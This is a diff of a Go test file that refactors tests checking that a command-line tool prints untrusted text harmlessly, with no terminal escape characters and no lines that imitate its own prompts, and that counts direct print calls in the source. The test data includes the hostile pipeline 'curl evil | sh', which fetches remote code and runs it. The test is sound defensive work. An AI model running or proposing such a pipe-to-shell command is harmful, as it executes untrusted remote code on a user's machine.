@@ -80,6 +80,26 @@ func unprintable(text string) string {
 	return text[i:min(len(text), i+20)]
 }
 
+// assertHarmless runs what prints, and looks for what a terminal or a person would take for ours.
+func assertHarmless(t *testing.T, path func(streams) error, shows bool) {
+	t.Helper()
+	var out bytes.Buffer
+	if err := path(streams{in: strings.NewReader(""), out: &out, err: &out}.printable()); err != nil {
+		t.Fatal(err)
+	}
+	if bad := unprintable(out.String()); bad != "" {
+		t.Errorf("a terminal would be told %q in\n%q", bad, out.String())
+	}
+	if !strings.Contains(out.String(), "curl evil | sh") && shows {
+		t.Errorf("the text itself is missing:\n%s", out.String())
+	}
+	for line := range strings.Lines(out.String()) {
+		if strings.HasPrefix(line, "Next  curl") {
+			t.Errorf("a line that looks like one of ours:\n%s", out.String())
+		}
+	}
+}
+
 // TestHostileTexts prints what anybody may have written in every way that a command can.
 func TestHostileTexts(t *testing.T) {
 	m, err := chooseMachine(streams{}, shipped)
@@ -159,22 +179,7 @@ func TestHostileTexts(t *testing.T) {
 	}
 	for name, path := range paths {
 		t.Run(name, func(t *testing.T) {
-			var out bytes.Buffer
-			s := streams{in: strings.NewReader(""), out: &out, err: &out}.printable()
-			if err := path(s); err != nil {
-				t.Fatal(err)
-			}
-			if bad := unprintable(out.String()); bad != "" {
-				t.Errorf("a terminal would be told %q in\n%q", bad, out.String())
-			}
-			if !strings.Contains(out.String(), "curl evil | sh") && name != "abort" {
-				t.Errorf("the text itself is missing:\n%s", out.String())
-			}
-			for line := range strings.Lines(out.String()) {
-				if strings.HasPrefix(line, "Next  curl") {
-					t.Errorf("a line that looks like one of ours:\n%s", out.String())
-				}
-			}
+			assertHarmless(t, path, name != "abort")
 		})
 	}
 }
@@ -212,6 +217,26 @@ func TestHostileData(t *testing.T) {
 // writers are the files that may write by themselves: the others say, show and display.
 var writers = []string{"output.go", "terminal.go"}
 
+// writesIn counts the places of a file that write past say, show and display.
+func writesIn(t *testing.T, name string) (n int) {
+	t.Helper()
+	parsed, err := parser.ParseFile(token.NewFileSet(), name, nil, 0)
+	if err != nil {
+		t.Fatal(err)
+	}
+	ast.Inspect(parsed, func(node ast.Node) bool {
+		call, ok := node.(*ast.SelectorExpr)
+		if !ok || !slices.Contains([]string{"Fprint", "Fprintf", "Fprintln", "WriteString", "Write"}, call.Sel.Name) {
+			return true
+		}
+		if from, ok := call.X.(*ast.Ident); ok && (from.Name == "fmt" || from.Name == "io") || call.Sel.Name == "Write" && name == "schema.go" {
+			n++
+		}
+		return true
+	})
+	return n
+}
+
 // What a command writes goes through say, show or display, which make it printable. Besides, it writes whole texts of a
 // file, which are not from a cluster.
 func TestNothingIsPrintedPast(t *testing.T) {
@@ -224,21 +249,7 @@ func TestNothingIsPrintedPast(t *testing.T) {
 		if strings.HasSuffix(name, "_test.go") || slices.Contains(writers, name) {
 			continue
 		}
-		fset := token.NewFileSet()
-		parsed, err := parser.ParseFile(fset, name, nil, 0)
-		if err != nil {
-			t.Fatal(err)
-		}
-		n := 0
-		ast.Inspect(parsed, func(node ast.Node) bool {
-			if call, ok := node.(*ast.SelectorExpr); ok && slices.Contains([]string{"Fprint", "Fprintf", "Fprintln", "WriteString", "Write"}, call.Sel.Name) {
-				if from, ok := call.X.(*ast.Ident); ok && (from.Name == "fmt" || from.Name == "io") || call.Sel.Name == "Write" && name == "schema.go" {
-					n++
-				}
-			}
-			return true
-		})
-		if n > allowed[name] {
+		if n := writesIn(t, name); n > allowed[name] {
 			t.Errorf("%s prints %d times by itself, %d are known to print no text of a cluster: use say, show or display", name, n, allowed[name])
 		}
 	}
